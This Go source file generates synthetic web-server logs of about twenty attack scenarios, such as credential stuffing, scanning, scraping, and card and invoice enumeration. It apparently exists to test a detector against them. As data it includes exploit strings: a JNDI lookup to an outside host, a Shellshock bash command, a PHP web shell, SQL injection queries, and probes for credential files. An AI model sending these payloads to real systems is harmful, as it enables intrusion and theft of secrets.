package scenes

import (
	"fmt"
	"net/netip"
	"strings"
)

// attacks are kinds that were found to pass what shipped, each with readers of the same site.
var attacks = []Scene{
	{Name: "stuffing-200", Says: "passwords tried every 5 s for 3 hours at a form that answers 200 whatever comes", Kind: Attack, play: stuffing200},
	{Name: "login-paths", Says: "20 addresses, each tries passwords every 2 s at one of 20 common paths of logins, answered 401", Kind: Attack, play: loginPaths},
	{Name: "residential", Says: "2,000 addresses of 3 tries each at a login, in 8 hours", Kind: Attack, play: residential},
	{Name: "stuffing-500", Says: "500 addresses share a list: 20 passwords each at a login, in 2 hours", Kind: Attack, play: stuffing500},
	{Name: "scraper", Says: "one address reads 2 pages a second, 86,400 in all", Kind: Attack, play: scraper},
	{Name: "scrapers", Says: "100 addresses read 432,000 pages in a day", Kind: Attack, play: scrapers},
	{Name: "slow-scan", Says: "a list of folders and pages, one in 15 s, for 4 hours", Kind: Attack, play: slowScan},
	{Name: "slow-secrets", Says: "hidden files and backups, one in 90 s, for 8 hours", Kind: Attack, play: slowSecrets},
	{Name: "network-scan", Says: "40 addresses of a /24 ask for 4 scripts each; 6 readers live in it", Kind: Attack, play: networkScan},
	{Name: "scan-200", Says: "a scan of 600 scripts at a site that answers 200 to everything", Kind: Attack, play: scan200},
	{Name: "scan-302", Says: "the same at one that redirects what it does not know", Kind: Attack, play: scan302},
	{Name: "users", Says: "the names of 500 users, by /?author=N and the API", Kind: Attack, play: users},
	{Name: "tool", Says: "injections by a program that says its name, answered 200", Kind: Attack, play: tool},
	{Name: "agent-payload", Says: "payloads in the User-Agent, one in 5 s", Kind: Attack, play: agentPayload},
	{Name: "object-ids", Says: "invoices, one number after the other, 2 a second for 3 hours", Kind: Attack, play: objectIDs},
	{Name: "cards", Says: "600 cards tried at the checkout in an hour, answered 402", Kind: Attack, play: cards},
	{Name: "sign-ups", Says: "300 accounts in an hour", Kind: Attack, play: signUps},
	{Name: "comments", Says: "400 comments in two hours", Kind: Attack, play: comments},
	{Name: "resets", Says: "300 mails with new passwords in an hour", Kind: Attack, play: resets},
	{Name: "multicall", Says: "XML-RPC, one call with many passwords each 10 s, by a program that says its name", Kind: Attack, play: multicall},
}

// attacker returns the browser of one who attacks.
func (l *log) attacker(addr netip.Addr, agent string) *browser {
	l.attackers[addr] = true
	return &browser{addr: addr, agent: agent}
}

// readers are so many homes that read the site in these hours.
func (l *log) readers(n int, hours int64) {
	for n := range n {
		b := &browser{addr: address(n), agent: pick(l, append(agents, phoneAgents...))}
		l.read(b, l.in(morning, hours*hour-30*minute), l.between(2, 8))
	}
}

// each calls do for every moment from morning on, so many seconds apart.
func each(times int, seconds float64, do func(n int, at int64)) {
	for n := range times {
		do(n, morning+int64(float64(n)*seconds))
	}
}

func stuffing200(l *log) {
	l.readers(40, 3)
	b := l.attacker(scattered(1), pick(l, agents))
	each(2160, 5, func(_ int, at int64) { l.post(b, at, "/login", 200, origin+"/login") })
}

var loginTargets = []string{
	"/login", "/login/", "/users/sign_in", "/users/sign_in/", "/signin", "/signin/", "/SIGNIN", "/session", "/session/", "/sessions",
	"/oauth/token", "/oauth/token/", "/api/login", "/api/login.json", "/users/sign_in.json", "/login;jsessionid=8A3F01", "/auth/login", "/account/login/", "/api/auth/signin/", "/Account/LogOn",
}

func loginPaths(l *log) {
	l.readers(40, 1)
	for n, target := range loginTargets {
		b := l.attacker(scattered(n), pick(l, agents))
		each(600, 2, func(_ int, at int64) { l.post(b, at, target, 401, "") })
	}
}

func residential(l *log) {
	l.readers(60, 8)
	for n := range 2000 {
		b := l.attacker(scattered(n), pick(l, append(agents, phoneAgents...)))
		at := l.in(morning, 8*hour-10*minute)
		for range 3 {
			l.post(b, at, "/login", 401, origin+"/login")
			at += int64(l.between(5, 120))
		}
	}
}

func stuffing500(l *log) {
	l.readers(60, 2)
	for n := range 500 {
		b := l.attacker(scattered(n), pick(l, append(agents, phoneAgents...)))
		for range 20 {
			l.post(b, l.in(morning, 2*hour), "/login", 401, origin+"/login")
		}
	}
}

func scraper(l *log) {
	l.readers(60, 12)
	b := l.attacker(scattered(1), pick(l, agents))
	each(86_400, 0.5, func(n int, at int64) { l.get(b, at, fmt.Sprintf("/shop/boat-%d/", n), 200, "") })
}

func scrapers(l *log) {
	l.readers(100, 24)
	for n := range 100 {
		b := l.attacker(scattered(n), pick(l, agents))
		each(4320, 20, func(i int, at int64) {
			l.get(b, l.in(at, 19), fmt.Sprintf("/shop/boat-%d/", i*100+n), 200, "")
		})
	}
}

// scanFile is the n-th of the files that scanners ask for.
func scanFile(n int) string {
	names := []string{"wp-config", "admin", "shell", "upload", "info", "test", "phpinfo", "config", "db", "backup", "alfa", "wso", "about", "cmd", "install", "setup"}
	folders := []string{"", "old/", "new/", "wp/", "site/", "cms/", "blog/", "shop/", "tmp/", "images/", "css/", "vendor/"}
	return fmt.Sprintf("/%s%s%s.php", folders[n/16%len(folders)], names[n%16], []string{"", "1", "2", "-old", "_"}[n/192%5])
}

func slowScan(l *log) {
	l.readers(60, 4)
	b := l.attacker(scattered(1), pick(l, agents))
	each(960, 15, func(n int, at int64) { l.get(b, at, strings.TrimSuffix(scanFile(n), ".php")+"/", 404, "") })
}

func slowSecrets(l *log) {
	l.readers(60, 8)
	b := l.attacker(scattered(1), pick(l, agents))
	names := []string{".env", ".git/config", ".aws/credentials", "config.yml", "dump.sql", "site.bak", ".svn/entries", ".DS_Store"}
	folders := []string{"", "api/", "app/", "old/", "backup/", "public/", "src/", "admin/", "dev/", "stage/"}
	each(320, 90, func(n int, at int64) {
		l.get(b, at, "/"+folders[n/8%10]+names[n%8]+[]string{"", ".1", ".2", ".old"}[n/80], 404, "")
	})
}

func networkScan(l *log) {
	l.readers(40, 1)
	for n := range 46 {
		addr := netip.AddrFrom4([4]byte{192, 0, 2, byte(10 + n)})
		if n >= 40 {
			l.read(&browser{addr: addr, agent: pick(l, agents)}, l.in(morning, 30*minute), l.between(3, 9))
			continue
		}
		b := l.attacker(addr, pick(l, agents))
		each(4, 12, func(i int, at int64) { l.get(b, at+int64(n)*45, scanFile(n*4+i), 404, "") })
	}
}

func scan200(l *log) { l.scan(200) }

func scan302(l *log) { l.scan(302) }

func (l *log) scan(status int) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), pick(l, agents))
	each(600, 0.5, func(n int, at int64) { l.get(b, at, scanFile(n), status, "") })
}

func users(l *log) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), pick(l, agents))
	each(500, 1, func(n int, at int64) {
		l.get(b, at, fmt.Sprintf("/?author=%d", n+1), pick(l, []int{301, 404, 404}), "")
		l.get(b, at, fmt.Sprintf("/wp-json/wp/v2/users/%d", n+1), pick(l, []int{200, 401, 404, 404}), "")
	})
}

func tool(l *log) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), "sqlmap/1.8.4#stable (https://sqlmap.org)")
	each(600, 1, func(n int, at int64) {
		l.get(b, at, fmt.Sprintf("/shop/boats?id=1%%20AND%%20%d%%3D%d--%%20-&sort=price", n, n), pick(l, []int{200, 200, 500}), "")
	})
}

func agentPayload(l *log) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), "")
	each(200, 5, func(n int, at int64) {
		b.agent = []string{"${jndi:ldap://203.0.113.250:1389/a}", "() { :; }; /bin/bash -c 'id'", "<?php system($_GET[0]); ?>", "${${lower:j}ndi:dns://x.example}"}[n%4]
		l.get(b, at, article(n), 200, "")
	})
}

func objectIDs(l *log) {
	l.readers(40, 3)
	b := l.attacker(scattered(1), pick(l, agents))
	each(21_600, 0.5, func(n int, at int64) {
		l.get(b, at, fmt.Sprintf("/invoices/%d", 100_000+n), map[bool]int{true: 404, false: 200}[l.one(40)], origin+"/invoices")
	})
}

func cards(l *log) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), pick(l, agents))
	each(600, 6, func(_ int, at int64) { l.post(b, at, "/checkout/pay", 402, origin+"/checkout") })
}

func signUps(l *log) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), pick(l, agents))
	each(300, 12, func(_ int, at int64) {
		l.get(b, at, "/register", 200, "")
		l.post(b, at+2, "/register", 302, origin+"/register")
	})
}

func comments(l *log) {
	l.readers(40, 2)
	b := l.attacker(scattered(1), pick(l, agents))
	each(400, 18, func(_ int, at int64) {
		page := article(l.rng.IntN(posts))
		l.get(b, at, page, 200, "")
		l.post(b, at+1, "/wp-comments-post.php", 302, origin+page)
	})
}

func resets(l *log) {
	l.readers(40, 1)
	b := l.attacker(scattered(1), pick(l, agents))
	each(300, 12, func(_ int, at int64) { l.post(b, at, "/wp-login.php?action=lostpassword", 302, origin+"/wp-login.php") })
}

func multicall(l *log) {
	l.readers(40, 3)
	b := l.attacker(scattered(1), "python-requests/2.32.3")
	each(1080, 10, func(_ int, at int64) { l.post(b, at, "/xmlrpc.php", 200, "") })
}
